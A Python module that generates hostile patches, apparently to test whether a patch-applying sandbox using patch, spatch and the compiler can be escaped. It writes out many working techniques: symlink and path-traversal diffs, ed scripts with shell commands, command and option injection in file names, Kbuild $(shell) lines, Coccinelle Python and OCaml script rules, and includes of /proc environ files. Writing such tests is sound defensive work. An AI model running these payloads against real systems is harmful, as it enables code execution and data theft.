"""Hostile patches: every way out that is known of patch, spatch and the compiler, and
combinations of them.

An attack is a sequence of patches, as one user would be asked to apply them.  What it is
after is in *Prey*: a file to change or to show, a port to call, a process to stop.
"""

import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SOURCE = "mm/x.c"
CODE = "int a(void)\n{\n\treturn 1;\n}\n"
#: An ordinary hunk, so that what is hostile stands beside what applies.
GOOD = "@@ -1,4 +1,4 @@\n int a(void)\n {\n-\treturn 1;\n+\treturn 2;\n }\n"
GOOD_RULE = "@@ @@\n-return 1;\n+return 2;\n"


@dataclass(frozen=True)
class Prey:
    file: Path
    port: int
    process: int

    @property
    def python(self) -> str:
        """A line of Python, an expression too, that does all that must not be done, each
        whatever became of the others."""
        deeds = (
            f"open({str(self.file)!r}, 'a').write('x')",
            f"print(open({str(self.file)!r}).read())",
            f"__import__('socket').create_connection(('127.0.0.1', {self.port}))",
            f"__import__('os').kill({self.process}, 9)",
        )
        tried = 'exec("try: " + deed + chr(10) + "except BaseException: pass")'
        return f"[{tried} for deed in {deeds!r}]"

    @property
    def shell(self) -> str:
        return f"echo x >> '{self.file}'; kill -9 {self.process}"


@dataclass(frozen=True)
class Attack:
    """What it is, and its patches: (file name, content)."""

    name: str
    patches: tuple[tuple[str, bytes], ...]


def diff(old: str, new: str, hunks: str = GOOD, more: str = "") -> str:
    """A patch of git's; *more* are lines of its header."""
    return f"diff --git {old} {new}\n{more}--- {old}\n+++ {new}\n{hunks}"


def _link(name: str, target: object) -> str:
    hunk = f"@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
    return diff("/dev/null", f"b/{name}", hunk, "new file mode 120000\n").replace(
        "diff --git /dev/null", f"diff --git a/{name}", 1
    )


def _rename(old: str, new: str) -> str:
    return (
        f"diff --git a/{old} b/{new}\nsimilarity index 100%\nrename from {old}\nrename to {new}\n"
    )


def _append(name: str) -> str:
    return diff(name, name, "@@ -1 +1,2 @@\n the canary\n+x\n")


UNIFIED: dict[str, Callable[[Prey], str]] = {
    "source becomes a link": lambda p: _rename(SOURCE, "gone.c") + _link(SOURCE, p.file),
    "source becomes zeros": lambda p: _rename(SOURCE, "gone.c") + _link(SOURCE, "/dev/zero"),
    "patch becomes a link": lambda p: (
        _rename("applied.patch", "gone") + _link("applied.patch", p.file)
    ),
    "directory becomes a link": lambda p: _rename(SOURCE, "x.c") + _link("mm", p.file.parent),
    "new link": lambda p: _link("mm/new", p.file),
    "write through a link": lambda p: _link("l", p.file.parent) + _append(f"a/l/{p.file.name}"),
    "mode of a link": lambda p: diff(f"a/{SOURCE}", f"b/{SOURCE}", GOOD, "new mode 120000\n"),
    "submodule": lambda p: diff(
        "a/sub", "b/sub", "@@ -0,0 +1 @@\n+Subproject commit 0\n", "new file mode 160000\n"
    ),
    "program": lambda p: diff(
        f"a/{SOURCE}", f"b/{SOURCE}", GOOD, "old mode 100644\nnew mode 100755\n"
    ),
    "upward": lambda p: _append("a/../" * 8 + str(p.file)),
    "upward inside": lambda p: _append(f"a/mm/../../../../../../../..{p.file}"),
    "absolute": lambda p: _append(str(p.file)),
    "absolute after a directory": lambda p: _append(f"a/{p.file}"),
    "quoted upward": lambda p: _append('"a/\\056\\056/\\056\\056' + str(p.file) + '"'),
    "index upward": lambda p: f"Index: ../../../../..{p.file}\n" + _append("/dev/null"),
    "prerequisite": lambda p: f"Prereq: canary\n*** {p.file}\n--- {p.file}\n" + GOOD,
    "rename out": lambda p: _rename(SOURCE, f"../../../../../..{p.file}"),
    "copy in": lambda p: f"diff --git a{p.file} b/{SOURCE}\ncopy from {p.file}\ncopy to {SOURCE}\n",
    "remove": lambda p: diff(
        str(p.file), "/dev/null", "@@ -1 +0,0 @@\n-the canary\n", "deleted file mode 100644\n"
    ),
    "make": lambda p: diff("/dev/null", str(p.file) + ".new", "@@ -0,0 +1 @@\n+x\n"),
    "options of spatch": lambda p: diff(
        "/dev/null", "b/.cocciconfig", "@@ -0,0 +1,2 @@\n+[spatch]\n+  options = --python sh\n"
    ),
    "rules of make": lambda p: diff(
        "/dev/null", "b/Kbuild", f"@@ -0,0 +1 @@\n+$(shell {p.shell})\n"
    ),
    "ed script": lambda p: f"1s/.*/x/\nr {p.file}\nw {p.file}\n!{p.shell}\n.\n",
    "ed in a patch": lambda p: f"--- a/{SOURCE}\n+++ b/{SOURCE}\n1e {p.shell}\n.\n!{p.shell}\n.\n",
    "ed after an index": lambda p: f"Index: {SOURCE}\n1i\nr !{p.shell}\n.\n1!{p.shell}\n",
    "context diff": lambda p: (
        f"*** {p.file}\n--- {p.file}\n***************\n*** 1 ****\n--- 1,2 ----\n  the canary\n+ x\n"
    ),
    "normal diff": lambda p: f"Index: {p.file}\n1a2\n> x\n",
    "binary": lambda p: (
        f"diff --git a/{SOURCE} b/{SOURCE}\nindex 1..2 100644\nGIT binary patch\nliteral 1\nIcmZPo\n\n"
    ),
    "binary outside": lambda p: f"Binary files {p.file} and {p.file} differ\n",
    "endless hunk": lambda p: f"--- a/{SOURCE}\n+++ b/{SOURCE}\n@@ -1,99999999999 +1,1 @@\n x\n",
    "endless number": lambda p: f"--- a/{SOURCE}\n+++ b/{SOURCE}\n@@ -{'9' * 5000} +1 @@\n x\n",
    "nothing": lambda p: "\0" * 4096,
    "name with a command": lambda p: _append(f"a/mm/$({p.shell}).c"),
    "name as an option": lambda p: _append(f"a/--output={p.file}"),
    "source of include": lambda p: _source(f'#include "{p.file}"'),
    "source of bytes": lambda p: _source(f'asm(".incbin \\"{p.file}\\"");'),
    "source of assembly": lambda p: _source(f'asm(".include \\"{p.file}\\"");'),
    "source of commands": lambda p: _source(f'#include "$(shell {p.shell})"'),
    "source of a circle": lambda p: _source("#include __FILE__"),
    "source of zeros": lambda p: _source('#include "/dev/zero"'),
    "source of processes": lambda p: _source(f'#include "/proc/{p.process}/environ"'),
    "source of a plugin": lambda p: _source(f'#pragma GCC plugin "{p.file}"'),
    "source of rules": lambda p: _source(f"@script:python@ @@ {p.python}"),
}


def _source(line: str) -> str:
    return diff(
        f"a/{SOURCE}",
        f"b/{SOURCE}",
        f"@@ -1,4 +1,5 @@\n+{line}\n int a(void)\n {{\n \treturn 1;\n }}\n",
    )


def _constraint(p: Prey, script: str = "script:python") -> str:
    return f"@r@\nexpression e : {script}() {{ {p.python} }};\n@@\n-return e;\n+return 2;\n"


SEMANTIC: dict[str, Callable[[Prey], str]] = {
    "rule": lambda p: f"@script:python@\n@@\n{p.python}\n",
    "rule on a line of its own": lambda p: f"@\nscript:python\n@\n@@\n{p.python}\n",
    "rule with a comment": lambda p: f"@script/**/:python@\n@@\n{p.python}\n",
    "rule with a line comment": lambda p: f"@script// :\n:python@\n@@\n{p.python}\n",
    "rule with a shebang": lambda p: f"@script\n#! x\n:python@\n@@\n{p.python}\n",
    "rule with signs": lambda p: f"@script\n+:python@\n@@\n{p.python}\n",
    "rule with a name": lambda p: f"@script : python named@\n@@\n{p.python}\n",
    "rule of OCaml": lambda p: f'@script:ocaml@\n@@\nSys.command "{p.shell}"\n',
    "rule after a comment": lambda p: f'// "/*\n@script:python@\n@@\n{p.python}\n// */"\n',
    "rule after a string": lambda p: (
        f'@@ @@\n f("/*");\n\n@script:python@\n@@\n{p.python}\n// */\n'
    ),
    "initialize": lambda p: f"@initialize:python@\n@@\n{p.python}\n\n" + GOOD_RULE,
    "initialize with spaces": lambda p: (
        f"@\tinitialize \n :\tpython @\n@@\n{p.python}\n\n" + GOOD_RULE
    ),
    "finalize": lambda p: f"@finalize:python@\n@@\n{p.python}\n\n" + GOOD_RULE,
    "finalize with a comment": lambda p: (
        f"@finalize/* : */:/**/python@\n@@\n{p.python}\n\n" + GOOD_RULE
    ),
    "constraint": _constraint,
    "constraint with a comment": lambda p: _constraint(p, "script/* */\n:// \npython"),
    "constraint of OCaml": lambda p: _constraint(p, "script:ocaml"),
    "fresh identifier": lambda p: (
        "@r@\nidentifier f;\n"
        f"fresh identifier g = script:python(f) {{ {p.python} }};\n@@\n-f(...)\n+g()\n {{ ... }}\n"
    ),
    "position": lambda p: (
        f"@r@\nposition p : script:python() {{ {p.python} }};\n@@\n-return@p 1;\n+return 2;\n"
    ),
    "options": lambda p: f"# spatch --python {p.file} --in-place\n" + GOOD_RULE,
    "options on a line of their own": lambda p: GOOD_RULE + f"\n  #spatch -o {p.file}\n",
    "include": lambda p: f'#include "{p.file}"\n' + GOOD_RULE,
    "include of the source": lambda p: f'#include "{SOURCE}"\n' + GOOD_RULE,
    "include as a change": lambda p: f'+#include "{p.file}"\n' + GOOD_RULE,
    "include after a shebang": lambda p: f'#! /*\n#include "{p.file}"\n// */\n' + GOOD_RULE,
    "include after a comment": lambda p: f'/* @ */ // @\n# \tinclude"{p.file}"\n' + GOOD_RULE,
    "isomorphisms": lambda p: f'using "{p.file}"\n' + GOOD_RULE,
    "isomorphisms of a path": lambda p: f"using <{p.file}>\n" + GOOD_RULE,
    "isomorphisms of a rule": lambda p: f'@r using/**/"{p.file}"@\n@@\n-return 1;\n+return 2;\n',
    "include in code": lambda p: f'@@ @@\n int a(void)\n+#include "{p.file}"\n {{ ... }}\n',
    "bytes": lambda p: "\xff\0@script\0:python@" + p.python,
}


#: What follows each kind: patches that do no harm, unless they are led astray.
AFTERWARDS = (
    ("q.patch", diff(f"a/{SOURCE}", f"b/{SOURCE}").encode()),
    ("r.cocci", b"@@ @@\n-return 2;\n+return 3;\n"),
)


def _dressed(rng: random.Random, text: str, *, mail: bool) -> bytes:
    """The same attack in other clothes."""
    if mail and rng.random() < 0.4:
        text = f"From 0 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.org>\nSubject: [PATCH]\n\nWhy.\n---\n{text}-- \n2.39\n"
    if rng.random() < 0.2:
        text = text.replace("\n", "\r\n")
    if rng.random() < 0.2:
        text = "\n" * rng.randrange(1, 4) + text
    if rng.random() < 0.1:
        text = text.rstrip("\n")
    return text.encode("latin-1", "replace")


def _unified(rng: random.Random, prey: Prey, names: list[str]) -> tuple[str, bytes]:
    parts = [UNIFIED[name](prey) for name in names]
    if rng.random() < 0.5:
        parts.insert(rng.randrange(len(parts) + 1), diff(f"a/{SOURCE}", f"b/{SOURCE}"))
    ending = rng.choice([".patch", ".diff", ".mbox", ".txt"])
    return f"p{ending}", _dressed(rng, "".join(parts), mail=True)


def _semantic(rng: random.Random, prey: Prey, names: list[str]) -> tuple[str, bytes]:
    parts = [SEMANTIC[name](prey) for name in names]
    if rng.random() < 0.5:
        parts.insert(rng.randrange(len(parts) + 1), GOOD_RULE)
    return "p.cocci", _dressed(rng, "\n".join(parts), mail=False)


def attacks(prey: Prey, count: int, seed: int = 1) -> list[Attack]:
    """*count* attacks: each kind as it is, then combinations in one patch and in several."""
    rng = random.Random(seed)
    made = [
        Attack(name, ((f"p{ending}", kind(prey).encode("latin-1")), *AFTERWARDS))
        for table, ending in ((UNIFIED, ".patch"), (SEMANTIC, ".cocci"))
        for name, kind in table.items()
    ]
    if count < len(made):
        return rng.sample(made, count)
    while len(made) < count:
        patches, names = [], []
        for _ in range(rng.randrange(1, 4)):
            table, write = rng.choice([(UNIFIED, _unified), (SEMANTIC, _semantic)])
            chosen = rng.sample(sorted(table), rng.randrange(1, 3))
            patches.append(write(rng, prey, chosen))
            names.append(" + ".join(chosen))
        made.append(Attack(", then ".join(names), tuple(patches)))
    return made
